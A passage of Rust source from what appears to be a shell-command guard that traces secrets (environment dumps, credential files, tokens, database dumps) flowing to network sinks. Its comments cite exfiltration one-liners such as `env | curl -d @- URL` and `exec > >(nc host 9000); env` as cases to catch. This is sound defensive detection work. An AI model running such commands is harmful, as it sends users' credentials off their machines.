//! Data flows between the parts of a command line: secrets reaching the network
//! (exfiltration), sockets reaching a shell (reverse and bind shells), downloads reaching
//! execution (download-then-run).
//!
//! Why flows and not commands: `env`, `cat ~/.aws/credentials` and `curl -d @- URL` are each
//! ordinary; `env | curl -d @- URL` is not. The walker already knows what every pipeline stage,
//! substitution and redirect produces ([`Producer`]); a producer that carries secret data is
//! [`Producer::Secret`] with its [`FlowSource`], and this module decides where such data may go
//! ([`FlowSink`]). A network call alone stays fine, and so does a secret read with no sink.
//!
//! Invariant: a verdict raised here carries its [`Flow`] (`Verdict::flow`), so `explain` can
//! name what went where.
//!
//! Sources: environment dumps (`env`, `printenv`, `set`, `export -p`, `declare -x`,
//! `/proc/*/environ`), credential files (the shell's secret list and the read-sensitive entries
//! of the `hookgate-paths` catalog), credential-shaped variables (`$GITHUB_TOKEN`), commands that
//! print credentials (the `credential_access` rules of the taxonomy), secret scanners, and
//! containers that mount a credential location. Secret data stays secret through filters
//! (`base64`, `gzip`, `tar`, `sed`, …). Sinks: network clients reading stdin, their request
//! arguments (body, form, URL, query string) and uploaded files, `/dev/tcp` redirections.

use std::path::{Path, PathBuf};

use hookgate_paths::{Access, Category, PathContext};

use tree_sitter::Node;

use crate::interp::Finding;
use crate::model::{
    Channel, Context, Effect, EffectOp, ExecutedCommand, Flow, FlowSink, FlowSource, Verdict,
};
use crate::targets::{self, Cwd};
use crate::taxonomy::{Args, RuleRef, ids};
use crate::walk::{Producer, Scope, Walker, Word};

/// A verdict for `rule` that carries `flow`; the reason names the flow. Found files and a
/// database dump (not credentials) reaching the network are bulk uploads, whichever sink
/// raised it.
pub(crate) fn verdict(rule: RuleRef, flow: Flow) -> Verdict {
    let rule = match flow.source {
        FlowSource::FoundFiles { .. } if rule == ids::CRED_EXFILTRATE => {
            ids::NET_UPLOAD_FOUND_FILES
        }
        FlowSource::DatabaseDump { .. } if rule == ids::CRED_EXFILTRATE => {
            ids::NET_UPLOAD_DATABASE_DUMP
        }
        _ => rule,
    };
    let mut v = rule.verdict();
    v.reason = format!("{}: {flow}", v.reason);
    v.flow = Some(flow);
    v
}

/// True for variable names that say they hold a credential (`GITHUB_TOKEN`, `PGPASSWORD`,
/// `OPENAI_API_KEY`, `AWS_SECRET_ACCESS_KEY`, `SLACK_WEBHOOK_URL`). Judged on the name's
/// `_`-separated words, so `TOKENIZERS_PARALLELISM`, `SSH_AUTH_SOCK` or `CACHE_KEY` are not.
pub(crate) fn is_credential_variable(name: &str) -> bool {
    const WORDS: &[&str] = &[
        "TOKEN",
        "TOKENS",
        "SECRET",
        "SECRETS",
        "PASSWORD",
        "PASSWD",
        "PASS",
        "PASSPHRASE",
        "APIKEY",
        "CREDENTIAL",
        "CREDENTIALS",
        "CREDS",
        "PAT",
        "COOKIE",
        "WEBHOOK",
    ];
    /// Words that make a following `KEY` a credential (`API_KEY`, `ACCESS_KEY`).
    const KEY_KINDS: &[&str] = &[
        "API",
        "ACCESS",
        "PRIVATE",
        "SECRET",
        "SIGNING",
        "ENCRYPTION",
        "MASTER",
        "LICENSE",
        "SERVICE",
        "ACCOUNT",
        "DEPLOY",
        "AUTH",
        "CLIENT",
    ];
    let upper = name.to_ascii_uppercase();
    let words: Vec<&str> = upper.split('_').filter(|w| !w.is_empty()).collect();
    words.iter().enumerate().any(|(i, w)| {
        // `NEXT_PAGE_TOKEN`, `pageToken`, `CONTINUATION_TOKEN`: a position in a listing.
        let position = |prefix: &str| POSITION_WORDS.contains(&prefix);
        let token = matches!(*w, "TOKEN" | "TOKENS");
        if token && i > 0 && words.get(i - 1).is_some_and(|p| position(p)) {
            return false;
        }
        WORDS.contains(w)
            || ["PASSWORD", "PASSWD", "TOKEN", "SECRET", "APIKEY"]
                .iter()
                .any(|s| {
                    w.strip_suffix(s)
                        .is_some_and(|prefix| prefix.len() > 1 && !position(prefix))
                })
    }) || words
        .windows(2)
        .any(|p| matches!(p, [kind, "KEY" | "KEYS"] if KEY_KINDS.contains(kind)))
        || words
            .windows(2)
            .any(|p| matches!(p, [store, "URL" | "URI" | "DSN"] if DATA_STORES.contains(store)))
        || words.windows(2).any(|p| p == ["CONNECTION", "STRING"])
}

/// Words that make a following `URL`/`URI`/`DSN` a connection string, which carries the
/// store's password (`DATABASE_URL`, `REDIS_URL`, `MONGODB_URI`, `SENTRY_DSN`).
const DATA_STORES: &[&str] = &[
    "DATABASE",
    "DB",
    "POSTGRES",
    "POSTGRESQL",
    "PG",
    "MYSQL",
    "MARIADB",
    "MONGO",
    "MONGODB",
    "REDIS",
    "AMQP",
    "RABBITMQ",
    "BROKER",
    "SENTRY",
    "ELASTICSEARCH",
    "CLICKHOUSE",
];

/// Words that make a following `TOKEN` a position in a paginated listing or a change feed,
/// not a credential (`NEXT_PAGE_TOKEN`, `CONTINUATION_TOKEN`, `SYNC_TOKEN`).
const POSITION_WORDS: &[&str] = &[
    "PAGE",
    "NEXTPAGE",
    "NEXT",
    "PREV",
    "PREVIOUS",
    "CONTINUATION",
    "CURSOR",
    "RESUME",
    "SYNC",
    "DELTA",
    "ITERATOR",
    "SHARD",
    "START",
    "LAST",
    "CHANGE",
    "CHANGES",
    "PAGINATION",
    "STREAM",
    "SEQUENCE",
    "BATCH",
];

/// Credentials used to sign or decrypt locally and never sent by any client that uses them
/// (`AWS_SECRET_ACCESS_KEY` signs requests; a private or signing key stays on the machine):
/// such a value in a request, even in a header or cookie, is a leak.
pub(crate) fn is_signing_secret(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    let words: Vec<&str> = upper.split('_').filter(|w| !w.is_empty()).collect();
    words.windows(3).any(|w| w == ["SECRET", "ACCESS", "KEY"])
        || words.windows(2).any(|w| {
            matches!(
                w,
                [
                    "PRIVATE" | "SIGNING" | "ENCRYPTION" | "MASTER" | "SSH" | "GPG",
                    "KEY"
                ]
            )
        })
        || words
            .iter()
            .any(|w| matches!(*w, "PASSPHRASE" | "MNEMONIC" | "KEYSTORE"))
}

/// A configuration key named like a credential (`github.token`, `//registry/:_authToken`,
/// `aws_secret_access_key`): camelCase and separators become `_` words, judged like variables.
fn is_credential_key(key: &str) -> bool {
    let mut out = String::with_capacity(key.len() + 4);
    let mut prev_lower = false;
    for c in key.chars() {
        if c.is_ascii_alphanumeric() {
            if c.is_ascii_uppercase() && prev_lower {
                out.push('_');
            }
            prev_lower = c.is_ascii_lowercase() || c.is_ascii_digit();
            out.push(c);
        } else {
            out.push('_');
            prev_lower = false;
        }
    }
    is_credential_variable(&out)
}

/// What earlier parts of a line leave for later ones: where the files they wrote came from, so
/// a later reader or upload of one is judged by its content's origin, not its name (`env >
/// /tmp/e; curl -F f=@/tmp/e …`), sockets opened for later commands, and environment markers.
///
/// Invariant: paths are recorded normalised (absolute), so a later `cd` cannot hide them.
#[derive(Debug, Default, Clone)]
pub(crate) struct LineState {
    /// Files holding secret data: written from a secret source, a copy or archive of a
    /// credential file, a secret scanner's report.
    pub secret: Vec<(PathBuf, FlowSource)>,
    /// Files earlier lines wrote secrets to ([`Context::secret_files`]), shared.
    seeded: std::sync::Arc<[(PathBuf, FlowSource)]>,
    /// Files (and, with `true`, whole directories) that came from the network.
    pub downloaded: Vec<(PathBuf, bool)>,
    /// A bare `exec N<>/dev/tcp/…` opened a socket for later commands (its endpoint).
    pub socket_fd: Option<String>,
    /// An assignment earlier in the line put a framework on its production environment
    /// (`RAILS_ENV=production`, `export NODE_ENV=production`), so its tasks run there.
    pub production: bool,
    /// The file a `< FILE` redirect of the statement being walked opens, until a command
    /// takes it as its standard input (cleared after the statement).
    pub stdin_file: Option<PathBuf>,
    /// The file a pipeline stage printed as it is (`cat FILE | …`), for the next stage to take
    /// as its standard input like a `< FILE` redirect (set by `cat`, taken by the pipeline).
    pub piped_file: Option<PathBuf>,
    /// Commands (indices into the walker's commands) whose standard input is a file the line
    /// redirects (`patch -p1 < fix.diff`), absolute: see [`crate::Analysis::stdin_files`].
    pub stdin_files: Vec<(usize, PathBuf)>,
    /// git remotes added earlier in the line (`git remote add NAME URL`): a push to one of
    /// them sends the repository somewhere nobody reviewed.
    pub new_remotes: Vec<String>,
    /// Descriptors other than 0 opened on a secret for reading anywhere on the line (`exec
    /// 3< .env`, `cmd 4< ~/.aws/credentials`), with the secret: `read -u 3`, `mapfile -u 4`
    /// and `read <&3` read it, and so does any program given the descriptor's path
    /// (`/dev/fd/3`, `/proc/self/fd/3`: `curl --data-binary @/dev/fd/3 URL`). Kept for the
    /// whole line (a descriptor opened in one branch may be read in another): it only ever
    /// makes data secret.
    pub fd_secrets: Vec<(String, FlowSource)>,
    /// A bare `exec > >(cmd)` made a network sink the shell's standard output: what later
    /// statements print leaves the machine (`exec > >(nc host 9000); env`).
    pub exec_sink: Option<FlowSink>,
}

impl LineState {
    /// The state a line starts with: the files earlier lines wrote secrets to
    /// ([`Context::secret_files`]).
    pub(crate) fn seeded(ctx: &Context) -> Self {
        Self {
            seeded: ctx.secret_files.clone(),
            ..Self::default()
        }
    }

    /// The files this line wrote secrets to (each once, the latest origin).
    pub(crate) fn written_secrets(&self) -> Vec<(PathBuf, FlowSource)> {
        let mut out: Vec<(PathBuf, FlowSource)> = Vec::new();
        for (p, s) in self.secret.iter().rev() {
            if !out.iter().any(|(q, _)| q == p) {
                out.push((p.clone(), s.clone()));
            }
        }
        out.reverse();
        out
    }

    /// Whether any file is known to hold secrets (this line's or earlier lines').
    fn holds_secrets(&self) -> bool {
        !self.secret.is_empty() || !self.seeded.is_empty()
    }

    /// The secret a file written earlier in the line (or by an earlier line) holds.
    ///
    /// Wildcards count on either side: a read of a pattern (`cat /tmp/k_*`, a `for f in
    /// /tmp/k_*` loop's word) reads every secret file it expands to, and a recorded family of
    /// pieces (`split key /tmp/k_` wrote `/tmp/k_*`) holds every name it stands for — so
    /// cutting a secret into files and sending the pieces is the same flow as sending it.
    fn secret_at(&self, path: &Path) -> Option<FlowSource> {
        let all = || self.secret.iter().rev().chain(self.seeded.iter().rev());
        if let Some((_, s)) = all().find(|(p, _)| p == path) {
            return Some(s.clone());
        }
        let within = |pattern: &Path, concrete: &Path| {
            hookgate_paths::ShellPattern::new(pattern)
                .is_some_and(|g| g.reach(concrete) == Some(hookgate_paths::PatternReach::Within))
        };
        let wild = |p: &Path| p.to_str().is_some_and(hookgate_paths::has_wildcard);
        let read_wild = wild(path);
        // A directory holding a secret file written earlier (`env > out/e.txt; tar cz out`,
        // `rclone copy out remote:`, `wandb sync run/`): a reader or uploader of the tree
        // takes the file with it. The root is never such a directory (every path is in it).
        let holds = |p: &Path| path != Path::new("/") && p != path && p.starts_with(path);
        all()
            .find(|(p, _)| {
                (read_wild && within(path, p)) || (wild(p) && within(p, path)) || holds(p)
            })
            .map(|(_, s)| s.clone())
    }

    /// The secret a descriptor path reads (`/dev/fd/3`, `/proc/self/fd/3`,
    /// `/proc/thread-self/fd/3`) when the line opened that descriptor on one.
    fn descriptor_at(&self, path: &Path) -> Option<FlowSource> {
        if self.fd_secrets.is_empty() {
            return None;
        }
        let fd = path
            .strip_prefix("/dev/fd")
            .or_else(|_| path.strip_prefix("/proc/self/fd"))
            .or_else(|_| path.strip_prefix("/proc/thread-self/fd"))
            .ok()?
            .to_str()?;
        self.fd_secrets
            .iter()
            .rev()
            .find(|(d, _)| d == fd)
            .map(|(_, s)| s.clone())
    }

    /// True when `path` came from the network (a downloaded file, or inside a cloned or
    /// synced directory).
    pub(crate) fn is_downloaded(&self, path: &Path) -> bool {
        self.downloaded
            .iter()
            .any(|(d, tree)| d == path || (*tree && hookgate_paths::is_within(path, d)))
    }
}

/// The secret a file read exposes: a credential file (the shell's list, then the catalog's
/// entries whose read is the risk), a process environment (`/proc/<pid>/environ`), or a file
/// written earlier in the line with secret data.
///
/// Used where data leaves (sink arguments, interpreter reads next to a network call); readers
/// on the hot path use [`read_source`], which skips the catalog inside the workspace.
pub(crate) fn file_source(
    raw: &str,
    cwd: &Cwd,
    ctx: &Context,
    files: &LineState,
) -> Option<FlowSource> {
    lookup_source(raw, cwd, ctx, files, true)
}

/// [`file_source`] for every file a reader names (`cat`, `< f`, `tar c`): inside the workspace
/// only the shell's credential list is consulted (agents read workspace files all the time and
/// the catalog's glob matching is the expensive part); outside it, the whole catalog.
pub(crate) fn read_source(
    raw: &str,
    cwd: &Cwd,
    ctx: &Context,
    files: &LineState,
) -> Option<FlowSource> {
    lookup_source(raw, cwd, ctx, files, false)
}

/// What a reader's operand `raw` exposes, as the reader rule asks it: a credential by the
/// shell's list ([`targets::is_secret_path`]), or — when it is neither a public half
/// ([`targets::is_public_half`]) nor the home directory or above it
/// ([`targets::is_home_or_above`]) — a [`read_source`]. The same answer as those four calls,
/// with the path normalised once instead of three times and the list checked once instead of
/// twice: this runs for every operand of every reader.
pub(crate) fn reader_exposes(raw: &str, cwd: &Cwd, ctx: &Context, files: &LineState) -> bool {
    if raw.is_empty() {
        return false;
    }
    let dash = raw.starts_with('-');
    if dash && !raw.contains('=') {
        return false;
    }
    let path = normalized(raw, cwd, ctx);
    if targets::is_secret_normalized(&path, ctx) {
        return true;
    }
    if dash
        || targets::is_public_half(raw)
        || ctx
            .home
            .as_deref()
            .is_some_and(|h| hookgate_paths::is_within(h, &path))
    {
        return false;
    }
    lookup_at(raw, &path, cwd, ctx, files, false, true).is_some()
}

/// `raw` normalised against the working directory (the root when it is unknown).
fn normalized(raw: &str, cwd: &Cwd, ctx: &Context) -> PathBuf {
    let base = match cwd {
        Cwd::Known(p) => p.as_path(),
        Cwd::Unknown => Path::new("/"),
    };
    hookgate_paths::normalize(raw, base, ctx.home.as_deref()).path
}

fn lookup_source(
    raw: &str,
    cwd: &Cwd,
    ctx: &Context,
    files: &LineState,
    thorough: bool,
) -> Option<FlowSource> {
    if raw.is_empty() || raw.starts_with('-') {
        return None;
    }
    lookup_at(
        raw,
        &normalized(raw, cwd, ctx),
        cwd,
        ctx,
        files,
        thorough,
        false,
    )
}

/// [`lookup_source`] of `raw`, normalised to `path`. `listed_out`: the caller has found `path`
/// neither on the shell's credential list nor the home directory or above it (so those two
/// checks are not made again).
fn lookup_at(
    raw: &str,
    path: &Path,
    cwd: &Cwd,
    ctx: &Context,
    files: &LineState,
    thorough: bool,
    listed_out: bool,
) -> Option<FlowSource> {
    let file = || FlowSource::SensitiveFile {
        path: raw.to_owned(),
    };
    if files.holds_secrets()
        && let Some(s) = place_in(raw, cwd, ctx).and_then(|p| files.secret_at(&p))
    {
        return Some(s);
    }
    if let Some(s) = files.descriptor_at(path) {
        return Some(s);
    }
    if !listed_out && targets::is_secret_normalized(path, ctx) {
        return Some(file());
    }
    // `/home/$USER/.aws/credentials`: a pattern that can be the user's own file is judged as it.
    if let Some(own) = ctx
        .home
        .as_deref()
        .and_then(|h| hookgate_paths::home_instance(path, h))
        && lookup_source(&own.to_string_lossy(), cwd, ctx, files, thorough).is_some()
    {
        return Some(file());
    }
    if is_proc_environ(path) {
        return Some(FlowSource::Environment { by: raw.to_owned() });
    }
    // The home directory, an ancestor of it or the root holds every credential below it
    // (`tar czf - ~`, `aws s3 sync ~ s3://…`, `scp -r ~ host:`).
    if !listed_out
        && ctx
            .home
            .as_deref()
            .is_some_and(|h| hookgate_paths::is_within(h, path))
    {
        return Some(file());
    }
    let inside = hookgate_paths::is_within(path, &ctx.cwd);
    // A private key or keystore in the workspace (`app/release.keystore`, `certs/server.key`)
    // is a key wherever it lies: read into a flow it is a source, as `cat` of it is a read.
    if inside && !thorough && private_key_file(path, ctx) {
        return Some(file());
    }
    let consult = thorough || !inside;
    // Below the home directory (and outside the workspace) a directory read whole holds what
    // the catalog lists under it: `grep -r password ~/.m2` reads `~/.m2/settings.xml`,
    // `tar c ~/.dbt` carries `profiles.yml` — the shell's own list already counts its
    // entries' ancestors (`~/.config` holds `gh/hosts.yml`); the catalog is the longer list.
    // Not above home (handled above) and not absolute trees (`/etc/nginx`): there the
    // catalog's entries are system files a recursive search rarely means.
    let subtree = consult
        && ctx
            .home
            .as_deref()
            .is_some_and(|h| path != h && hookgate_paths::is_within(path, h))
        && !inside;
    (consult && catalog_secret(path, ctx, subtree)).then(file)
}

/// `/proc/self/environ`, `/proc/1/environ`, `/proc/self/task/1/environ`.
fn is_proc_environ(path: &Path) -> bool {
    // The name first: it rejects nearly every path without walking its components.
    path.file_name().is_some_and(|n| n == "environ")
        && hookgate_paths::is_within(path, Path::new("/proc"))
}

/// The catalog's private-key entries (`*.pem`, `*.key`, `*.jks`, `*.keystore`, `id_*`, less
/// the certificates and public halves its excludes name) for one file.
fn private_key_file(path: &Path, ctx: &Context) -> bool {
    let mut pctx = PathContext::new(ctx.cwd.clone(), ctx.home.clone());
    pctx.workspace = Some(ctx.cwd.clone());
    // Only the private-key entries are matched: this runs for every workspace file a reader
    // names, and the whole catalog's globs cost ~20 times more. `path` is normalised already
    // (`lookup_at`'s), so it is not folded again.
    !hookgate_paths::Catalog::global()
        .classify_normalized_where(path, &pctx, |category, access| {
            category == Category::PrivateKey && access.covers(Access::Read)
        })
        .is_empty()
}

/// True when the catalog says reading `path` (or, with `subtree`, anything below it) exposes a
/// credential. `path` is absolute and normalised (`hookgate_paths::normalize`).
fn catalog_secret(path: &Path, ctx: &Context, subtree: bool) -> bool {
    let mut pctx = PathContext::new(ctx.cwd.clone(), ctx.home.clone());
    pctx.workspace = Some(ctx.cwd.clone());
    // The entries that cannot answer are not matched at all (see `private_key_file`).
    let exposes = |category, access: Access| {
        access.covers(Access::Read)
            && matches!(
                category,
                Category::PrivateKey
                    | Category::CloudCredentials
                    | Category::ContainerCredentials
                    | Category::PackageRegistryCredentials
                    | Category::CredentialStore
                    | Category::EnvFile
                    | Category::ShellHistory
                    | Category::PrivilegeEscalation
            )
    };
    // `path` is normalised by every caller: only the subtree question folds it again.
    let matches = if subtree {
        hookgate_paths::classify_subtree_where(path, &pctx, exposes)
    } else {
        hookgate_paths::Catalog::global().classify_normalized_where(path, &pctx, exposes)
    };
    !matches.is_empty()
}

/// The first secret carried inside words (a `$(env)` substitution, a `$TOKEN` expansion).
pub(crate) fn words_source<'w>(words: impl IntoIterator<Item = &'w Word>) -> Option<FlowSource> {
    words.into_iter().find_map(|w| {
        w.substs.iter().find_map(|p| match p {
            Producer::Secret(s) => Some(s.clone()),
            _ => None,
        })
    })
}

/// Secret scanners: their report lists the secrets they found.
const SECRET_SCANNERS: &[&str] = &[
    "trufflehog",
    "gitleaks",
    "detect-secrets",
    "ggshield",
    "noseyparker",
    "git-secrets",
    "secretlint",
    "whispers",
    "talisman",
    "kingfisher",
];

/// Commands that pass their input through, transformed: secret in, secret out.
const FILTERS: &[&str] = &[
    "cat", "head", "tail", "sort", "uniq", "grep", "egrep", "fgrep", "rg", "sed", "awk", "gawk",
    "cut", "tr", "rev", "base64", "base32", "basenc", "xxd", "od", "hexdump", "gzip", "bzip2",
    "xz", "zstd", "lz4", "compress", "tar", "zip", "openssl", "gpg", "jq", "yq", "column", "fold",
    "paste", "nl", "tac", "strings", "tee", "dd", "iconv", "python", "python3", "perl", "ruby",
    "node", "xargs", "sponge", "cpio", "split",
];

/// Whether `name` passes its input through ([`FILTERS`]): data in, data out, no commands.
pub(crate) fn is_filter(name: &str) -> bool {
    crate::names::listed!(FILTERS, name)
}

/// Whether `name` dumps a database's contents: `Some(true)` to stdout, `Some(false)` into a
/// file its options name (`pg_dump -f F`, `mysqldump --result-file=F`, `mongoexport -o F`,
/// `mongodump --archive=F`, see [`dump_file`]), `None` for anything else (`mongodump` without
/// `--archive` writes a directory tree).
fn database_dump(name: &str, words: &[Word]) -> Option<bool> {
    let has = |opts: &[&str]| {
        words.iter().any(|w| {
            let t = w.text.as_str();
            opts.iter().any(|o| {
                t == *o
                    || t.strip_prefix(o)
                        .is_some_and(|r| r.starts_with('=') || (o.len() == 2 && !r.is_empty()))
            })
        })
    };
    if !matches!(
        name,
        "pg_dump"
            | "pg_dumpall"
            | "mysqldump"
            | "mariadb-dump"
            | "mysqlpump"
            | "mongoexport"
            | "mongodump"
            | "wp"
            | "drush"
            | "firebase"
            | "kcat"
            | "kafkacat"
            | "kafka-console-consumer"
            | "kafka-console-consumer.sh"
    ) {
        return None;
    }
    // A topic's messages read out in bulk: `kcat -C -t T` (consumer mode), the console
    // consumer (`--from-beginning` or not, it prints what it reads).
    match name {
        "kcat" | "kafkacat" => return has(&["-C"]).then_some(true),
        "kafka-console-consumer" | "kafka-console-consumer.sh" => {
            return (!has(&["--help", "--version"])).then_some(true);
        }
        _ => {}
    }
    let help = has(&["--help", "--version", "-V", "-?"]);
    if let Some(to) = framework_dump(name, words) {
        return (!help).then_some(matches!(to, DumpTo::Stdout));
    }
    match name {
        "pg_dump" | "pg_dumpall" if !help => Some(!has(&["-f", "--file"])),
        "mysqldump" | "mariadb-dump" | "mysqlpump" if !help => Some(!has(&["-r", "--result-file"])),
        "mongoexport" if !help => Some(!has(&["-o", "--out"])),
        "mongodump" if !help => {
            let archive = words.iter().find(|w| w.text.starts_with("--archive"))?;
            Some(archive.text == "--archive")
        }
        _ => None,
    }
}

/// Where a framework's dump ([`framework_dump`]) writes.
enum DumpTo<'w> {
    /// The standard output (no file, or `-`).
    Stdout,
    /// The file it names.
    File(&'w str),
}

/// A web framework's or platform's dump of its database (`wp db export [FILE|-]`, `drush
/// sql:dump [--result-file=F]`, `firebase auth:export FILE` — the user accounts with their
/// password hashes), with where it writes.
fn framework_dump<'w>(name: &str, words: &'w [Word]) -> Option<DumpTo<'w>> {
    let operands: Vec<&'w str> = words
        .iter()
        .map(|w| w.text.as_str())
        .filter(|t| !t.starts_with('-') && !t.starts_with('@') || *t == "-")
        .collect();
    let to = |file: Option<&'w str>| match file {
        Some(f) if f != "-" && !f.is_empty() => DumpTo::File(f),
        _ => DumpTo::Stdout,
    };
    match (name, operands.as_slice()) {
        ("wp", ["db", "export", rest @ ..]) => Some(to(rest.first().copied())),
        ("drush", [task, ..]) if matches!(*task, "sql:dump" | "sql-dump") => Some(to(words
            .iter()
            .find_map(|w| w.text.strip_prefix("--result-file=")))),
        ("firebase", ["auth:export", file, ..]) => Some(to(Some(*file))),
        _ => None,
    }
}

/// The file a database dump writes when its options name one ([`database_dump`]).
fn dump_file<'w>(name: &str, words: &'w [Word]) -> Option<&'w str> {
    if let Some(to) = framework_dump(name, words) {
        return match to {
            DumpTo::File(f) => Some(f),
            DumpTo::Stdout => None,
        };
    }
    let opts: &[&str] = match name {
        "pg_dump" | "pg_dumpall" => &["-f", "--file"],
        "mysqldump" | "mariadb-dump" | "mysqlpump" => &["-r", "--result-file"],
        "mongoexport" => &["-o", "--out"],
        "mongodump" => &["--archive"],
        _ => return None,
    };
    let mut it = words.iter();
    while let Some(w) = it.next() {
        let t = w.text.as_str();
        for o in opts {
            if t == *o {
                return it.next().map(|v| v.text.as_str());
            }
            if let Some(r) = t.strip_prefix(o) {
                if let Some(v) = r.strip_prefix('=') {
                    return Some(v);
                }
                if o.len() == 2 && !r.is_empty() {
                    return Some(r);
                }
            }
        }
    }
    None
}

/// Readers whose file operands end up on stdout (`base64 ~/.ssh/id_rsa`, `tar cz ~/.aws`).
const FILE_READERS: &[&str] = &[
    "cat", "head", "tail", "base64", "base32", "xxd", "od", "hexdump", "strings", "tar", "zip",
    "gzip", "bzip2", "xz", "zstd", "gpg", "openssl", "jq", "yq", "sort", "uniq", "grep", "rg",
    "sed", "awk", "cut", "nl", "tac", "dd", "cpio", "7z", "7za",
];

/// What secret a plain command prints, given its arguments and its stdin. `credential_rule`
/// is true when the taxonomy already matched it as a `credential_access` command
/// (`gh auth token`, `kubectl get secret`).
#[allow(clippy::too_many_arguments)]
pub(crate) fn command_source(
    name: &str,
    words: &[Word],
    stdin: &Producer,
    credential_rule: bool,
    cwd: &Cwd,
    ctx: &Context,
    files: &LineState,
) -> Option<FlowSource> {
    let is_operand = |w: &&Word| !(w.exact && w.text.starts_with('-') && w.text.len() > 1);
    match name {
        "printenv" => {
            let operands: Vec<&Word> = words.iter().filter(is_operand).collect();
            return match operands.first() {
                None => Some(FlowSource::Environment {
                    by: "printenv".into(),
                }),
                Some(_) => operands
                    .iter()
                    .find(|w| is_credential_variable(&w.text))
                    .map(|w| FlowSource::CredentialVariable {
                        name: w.text.clone(),
                    }),
            };
        }
        "set" | "export" | "declare" | "typeset" | "compgen" => {
            let strings: Vec<String> = words.iter().map(|w| w.text.clone()).collect();
            return is_environment_listing(name, &strings).then(|| FlowSource::Environment {
                by: format!("{name} {}", strings.join(" ")).trim().to_owned(),
            });
        }
        "history" if !words.iter().any(|w| is_operand(&w)) => {
            return Some(FlowSource::CredentialCommand {
                command: "history".into(),
            });
        }
        // The clipboard: what the user last copied, a password or token as often as not
        // (password managers copy to it). Read out and sent, it is the user's secret leaving.
        "pbpaste" | "wl-paste" | "termux-clipboard-get" | "gpaste-client" => {
            return Some(FlowSource::CredentialCommand {
                command: format!("{name} (the clipboard)"),
            });
        }
        "xclip" | "xsel" if clipboard_read(name, words) => {
            return Some(FlowSource::CredentialCommand {
                command: format!("{name} (the clipboard)"),
            });
        }
        "docker" | "podman" | "nerdctl" => {
            return container_mount(words, cwd, ctx).or_else(|| container_secret(name, words, ctx));
        }
        "apptainer" | "singularity" => return container_mount(words, cwd, ctx),
        "kubectl" | "oc" => {
            // Only a pod's own output returns here: `kubectl get secret -o yaml` is judged by
            // its credential rule below.
            if let Some(source) = container_secret(name, words, ctx) {
                return Some(source);
            }
        }
        // BSD-style `ps e`/`ps eww`/`ps auxe` print every process's environment.
        "ps" if words.iter().any(|w| {
            w.exact
                && !w.text.starts_with('-')
                && w.text.contains('e')
                && w.text.bytes().all(|b| b.is_ascii_alphabetic())
        }) =>
        {
            return Some(FlowSource::Environment { by: "ps e".into() });
        }
        n if crate::names::listed!(SECRET_SCANNERS, n) => {
            return Some(FlowSource::SecretScanner { tool: n.to_owned() });
        }
        // `jq -n env`, `jq -n '$ENV'`, `gojq -n 'env | tostring'`: jq's own view of the
        // process environment, printed as JSON.
        "jq" | "gojq" | "jaq" if jq_program(words).is_some_and(jq_reads_environment) => {
            return Some(FlowSource::Environment {
                by: format!("{name} env"),
            });
        }
        n if crate::names::listed!(CONTENT_SEARCHERS, n) => {
            if let Some(root) = hunts_credentials(n, words, cwd, ctx) {
                return Some(FlowSource::SecretScanner {
                    tool: format!("{n} searching {root} for credentials"),
                });
            }
        }
        "tar" | "gtar" | "bsdtar" | "zip" | "7z" | "7za" | "pax" => {
            if let Some(root) = archived_tree(name, words, cwd, ctx) {
                return Some(FlowSource::FoundFiles { root });
            }
        }
        n if crate::names::listed!(CAPTURE_TOOLS, n)
            && capture_output(n, words) == Capture::Stdout =>
        {
            return Some(FlowSource::CapturedTraffic {
                command: shown(name, words),
            });
        }
        n if database_dump(n, words).is_some_and(|to_stdout| to_stdout) => {
            let shown: Vec<&str> = words.iter().map(|w| w.text.as_str()).collect();
            return Some(FlowSource::DatabaseDump {
                command: format!("{name} {}", shown.join(" ")).trim().to_owned(),
            });
        }
        // `git archive HEAD` (no `-o`) and `git bundle create - --all` stream the repository's
        // tree or history to stdout: the same bulk upload as `tar czf - .` when it reaches
        // the network.
        "git" => {
            let texts: Vec<&str> = words.iter().map(|w| w.text.as_str()).collect();
            let sub = texts.iter().position(|t| !t.starts_with('-'));
            let streams = match sub.map(|k| (texts[k], &texts[k + 1..])) {
                Some(("archive", rest)) => !rest
                    .iter()
                    .any(|t| *t == "-o" || t.starts_with("--output") || t.starts_with("-o")),
                Some(("bundle", rest)) => {
                    rest.first() == Some(&"create") && rest.get(1) == Some(&"-")
                }
                _ => false,
            };
            if streams {
                return Some(FlowSource::FoundFiles {
                    root: "the git repository".to_owned(),
                });
            }
        }
        _ => {}
    }
    if credential_rule
        || config_getter_key(name, words).is_some_and(is_credential_key)
        || mints_credential(name, words)
    {
        let shown: Vec<&str> = words.iter().map(|w| w.text.as_str()).collect();
        return Some(FlowSource::CredentialCommand {
            command: format!("{name} {}", shown.join(" ")).trim().to_owned(),
        });
    }
    // Whether relative operands stay inside the workspace (see `may_be_secret`), once.
    let inside = matches!(cwd, Cwd::Known(p)
        if p.as_os_str() == ctx.cwd.as_os_str() || hookgate_paths::is_within(p, &ctx.cwd));
    let emits = !is_non_emitting(name) || encrypts_to_stdout(name, words);
    let program = program_operand(name, words);
    if emits
        && let Some(s) = words
            .iter()
            .enumerate()
            .filter(|(i, w)| {
                w.exact
                    && Some(*i) != program
                    && is_operand(w)
                    && may_be_secret(&w.text, inside, files)
                    && !(*i > 0
                        && words
                            .get(i - 1)
                            .is_some_and(|prev| is_key_option(name, &prev.text)))
            })
            .find_map(|(_, w)| read_source(&w.text, cwd, ctx, files))
        // What prints only names, counts or matches' file names (`cut -d= -f1 .env`, `grep -c
        // KEY .env`) carries no content onward: the same reading as its own read's
        // (`resolve::prints_no_content`), checked once a secret operand is found. Not jq's
        // key projections: a JSON credential file's keys may be the secrets (DISAGREEMENTS
        // lead23-3), so where they go is still judged.
        && (matches!(name, "jq" | "gojq" | "jaq")
            || !crate::resolve::prints_no_content(
            name,
            &crate::taxonomy::Args::parse_by(name, words, |w| w.text.as_str()),
            words,
        ))
    {
        // Any program may print the files it is given (`awk 1`, `rev`, `paste`, `iconv`,
        // `git diff --no-index /dev/null KEY`): a sensitive operand is the source of its
        // stdout unless the program is known to print only facts about it.
        return Some(s);
    }
    if let Some(s) = words_source(words) {
        // `jq -n --arg t "$TOKEN" …` prints what it was given.
        if crate::names::listed!(FILTERS, name) || name == "echo" || name == "printf" {
            return Some(s);
        }
    }
    match stdin {
        // `printenv | grep -i token`: a search for credential markers over a dump keeps
        // just the secrets — what it prints is no longer the environment at large.
        Producer::Secret(FlowSource::Environment { by }) if emits => {
